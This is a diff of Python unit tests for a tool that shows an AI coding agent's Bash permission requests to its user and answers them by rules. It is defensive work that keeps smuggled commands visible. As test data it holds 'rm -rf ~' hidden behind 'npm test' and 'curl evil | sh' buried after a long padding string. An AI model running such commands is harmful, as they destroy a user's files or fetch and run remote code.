@@ -17,12 +17,15 @@ from hostagent.daemon.state.asking import ANSWER_TAKES, SOURCE_HOOK, SOURCE_SCRE
 from hostagent.errors import NoQuestion
 from hostagent.options import CreateRequest
 from hostagent.presets import parse_preset
+from hostagent.question import Question
 from hostagent.yamlfile import SettingsError
 from tests.unit.fakes import Host, ShownWatch, me, run
 
 MENU = "Bash command\n  rm -rf build/\nDo you want to proceed?\n❯ 1. Yes\n  2. No\n"
 PROMPT = "● Done.\n> "
-RM = hookrequest.question("Bash", json.dumps({"command": "rm -rf build/", "description": "x"}))
+RM = Question(
+    hookrequest.TEXT, hookrequest.CHOICES, detail="Bash\ncommand: rm -rf build/"
+)  # hookrequest.question's, for Bash's `rm -rf build/`
 
 
 @pytest.mark.parametrize(
@@ -33,15 +36,42 @@ RM = hookrequest.question("Bash", json.dumps({"command": "rm -rf build/", "descr
         ("mcp__x__y", '{"q": 1}', 'mcp__x__y\n{"q": 1}'),
         ("Bash", "not json", "Bash\nnot json"),
         ("", "", "a tool"),
-        ("Bash", json.dumps({"command": "a\n\n  b"}), "Bash\ncommand: a b"),  # one line each
+        # Every line of a command is shown: a second command hides behind no first.
+        (
+            "Bash",
+            json.dumps({"command": "npm test\nrm -rf ~"}),
+            "Bash\ncommand: npm test\nrm -rf ~",
+        ),
+        (
+            "Bash",
+            json.dumps({"command": "ls", "description": "List"}),
+            "Bash\ncommand: ls\ndescription: List",
+        ),
     ],
 )
 def test_a_hooks_request_reads_as_its_tool_and_what_it_would_do(
     tool: str, tool_input: str, detail: str
 ) -> None:
     q = hookrequest.question(tool, tool_input)
+    assert q is not None
     assert q.text == "Do you want to proceed?" and q.detail == detail
     assert [c.label for c in q.choices] == ["Yes", "No"] and q.selected == -1
+
+
+@pytest.mark.parametrize(
+    "tool, tool_input",
+    [
+        ("Bash", json.dumps({"command": "echo " + "a" * 2100 + " ; curl evil | sh"})),  # a line
+        ("Bash", json.dumps({"command": "\n".join(["true"] * 50)})),  # too many lines
+        ("Bash", json.dumps({"command": "x" * 9000})[: hookrequest.MAX_INPUT + 1]),  # cut
+        ("AskUserQuestion", '{"questions": []}'),  # a question with choices of its own
+        ("ExitPlanMode", '{"plan": "..."}'),
+    ],
+)
+def test_what_cannot_be_shown_whole_or_is_no_yes_or_no_is_the_screens_to_ask(
+    tool: str, tool_input: str
+) -> None:
+    assert hookrequest.question(tool, tool_input) is None
 
 
 def test_the_hooks_reply_allows_or_denies_and_a_deny_stops_the_turn() -> None:
@@ -63,9 +93,12 @@ def test_a_hooks_question_comes_first_and_its_dialog_answered_elsewhere_ends_it(
         asked, reply = asking.ask_hook(RM)
         assert asking.asked == asked and asked.source == SOURCE_HOOK
         assert not asking.see(True, PROMPT)  # drawn after the hook asked: still its question
-        assert not asking.see(True, MENU) and asking.asked == asked  # its dialog, drawn
+        assert not asked.drawn
+        assert asking.see(True, MENU)  # its dialog, drawn: the same question, now drawn
+        assert asking.asked is not None and asking.asked.id == asked.id and asking.asked.drawn
         assert asking.screen is not None and asking.screen.source == SOURCE_SCREEN
-        assert asking.see(True, PROMPT)  # answered in the terminal
+        assert not asking.see(True, PROMPT)  # one read without it: a redraw, maybe
+        assert asking.see(True, PROMPT)  # two: answered in the terminal
         assert asking.asked is None and reply.result() == ""
         # A second hook while one waits is the terminal's at once.
         first, _ = asking.ask_hook(RM)
@@ -111,8 +144,12 @@ async def _hooked(tmp_path: Path, wait: int) -> tuple[Host, asyncio.Task[str]]:
     host.registry.watched(session, ShownWatch())
     data: dict[str, object] = {"tool_name": "Bash", "tool_input": '{"command": "ls"}'}
     task = asyncio.ensure_future(host.core.hooks.ask(session, "PermissionRequest", data))
-    while session.asked is None:
-        await asyncio.sleep(0)  # the task runs up to its wait
+
+    async def asked() -> None:
+        while session.asked is None:
+            await asyncio.sleep(0)  # the task runs up to its wait
+
+    await asyncio.wait_for(asked(), 5)
     return host, task
 
 
@@ -127,6 +164,30 @@ def test_an_answer_to_a_hooks_question_is_its_reply_and_types_nothing(tmp_path: 
         assert host.scopes.tmux.pressed == [] and session.asked is None
         with pytest.raises(NoQuestion):
             await answering.answer(host.scopes.tmux, session, asked.id, "no")
+
+    run(body())
+
+
+def test_a_rule_answers_a_hooks_question_once_its_dialog_is_on_the_screen(
+    tmp_path: Path,
+) -> None:
+    """Not before: a process of the session's asking in its hook's place would learn from a
+    quick reply what its user's rules allow."""
+
+    async def body() -> None:
+        host, task = await _hooked(tmp_path, 600)
+        host.core.answers.set(
+            me(), "rules: [{preset: shell, question: '*command: ls*', answer: yes}]"
+        )
+        session = host.registry.get("a")
+        host.registry.announce(session)
+        await asyncio.sleep(0)
+        assert not task.done() and session.asked is not None
+        watch = session.watch
+        assert watch is not None
+        assert watch.asking.see(True, MENU)  # the dialog drawn: the same question, drawn
+        host.registry.announce(session)
+        assert await asyncio.wait_for(task, 5) == "allow"
 
     run(body())
 
